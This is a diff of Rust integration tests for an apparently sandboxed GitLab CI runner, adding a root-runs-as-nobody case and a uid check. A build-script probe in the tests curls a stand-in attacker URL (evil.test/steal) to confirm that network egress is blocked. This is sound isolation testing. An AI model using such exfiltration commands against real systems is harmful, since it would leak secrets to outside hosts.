@@ -167,6 +167,12 @@ fn make_repo(root: &Path, name: &str, repo_policy: Option<&str>) {
 
 /// The operator's side: policy file and profile, owned by the runner's user.
 fn operator_policy(dir: &Dir, repository_policy: &str) -> PathBuf {
+    operator_policy_for(dir, repository_policy, None)
+}
+
+/// [`operator_policy`] with `user:` (the account a root runner runs stages as).
+fn operator_policy_for(dir: &Dir, repository_policy: &str, user: Option<&str>) -> PathBuf {
+    let user = user.map(|u| format!("user: {u}\n")).unwrap_or_default();
     let root = dir.root.display();
     dir.write(
         "etc/build.yml",
@@ -175,7 +181,7 @@ fn operator_policy(dir: &Dir, repository_policy: &str) -> PathBuf {
     dir.write(
         "etc/gitlab.yml",
         &format!(
-            "version: 1\ngitlab_url: http://gitlab.test\nbuilds_dir: {root}/builds\ncache_dir: {root}/cache\nstate_dir: {root}/state\naudit_dir: {root}/audit\nresolver: 192.0.2.54:53\nrepository_policy: {repository_policy}\ndefault: {{ profile: offline }}\nprojects:\n  group/app: &app\n    jobs:\n      test: {{ profile: {root}/etc/build.yml, variables: [DEPLOY_KEY] }}\n  group/widen: *app\n  group/narrow: *app\n"
+            "version: 1\ngitlab_url: http://gitlab.test\nbuilds_dir: {root}/builds\ncache_dir: {root}/cache\nstate_dir: {root}/state\naudit_dir: {root}/audit\nresolver: 192.0.2.54:53\n{user}repository_policy: {repository_policy}\ndefault: {{ profile: offline }}\nprojects:\n  group/app: &app\n    jobs:\n      test: {{ profile: {root}/etc/build.yml, variables: [DEPLOY_KEY] }}\n  group/widen: *app\n  group/narrow: *app\n"
         ),
     )
 }
@@ -369,12 +375,18 @@ fn a_job_runs_stage_by_stage_and_the_token_reaches_only_git_cache_and_artifacts(
     if !needs_root() {
         return;
     }
-    for uid in users() {
+    // Root, root running stages as `user: nobody`, and an unprivileged runner.
+    let mut runs: Vec<(u32, Option<&str>)> = users().into_iter().map(|u| (u, None)).collect();
+    if common::is_root() {
+        runs.push((0, Some("nobody")));
+    }
+    for (uid, user) in runs {
         let dir = Dir::new(uid);
         make_repo(&dir.root, "app", None);
         let gl = GitLab::new(&dir.root.join("repos"));
-        let policy = operator_policy(&dir, "ignore");
-        let mut job = Job::new(&dir, &gl, policy, 4100 + uid as i64, "group/app");
+        let policy = operator_policy_for(&dir, "ignore", user);
+        let id = 4100 + uid as i64 + if user.is_some() { 1 } else { 0 };
+        let mut job = Job::new(&dir, &gl, policy, id, "group/app");
 
         // config_exec: JSON on stdout (executors/custom/api/config.go).
         let o = job.call(&["config"]);
@@ -444,8 +456,15 @@ curl -sf -m 10 http://evil.test/steal && echo EVIL-REACHED || echo evil-denied
 curl -sf -m 10 http://gitlab.test/api/v4/jobs/1/artifacts && echo GITLAB-REACHED || echo gitlab-denied
 "#
         );
+        let body = format!("echo \"uid=$(id -u)\"\n{body}");
         let o = job.stage("build_script", &body);
         assert_code(&o, 0);
+        let want = if user.is_some() { common::NOBODY } else { uid };
+        assert!(
+            o.stdout().contains(&format!("uid={want}\n")),
+            "{}",
+            show(&o)
+        );
         let out = o.stdout();
         assert!(
             out.contains("deploy=***"),
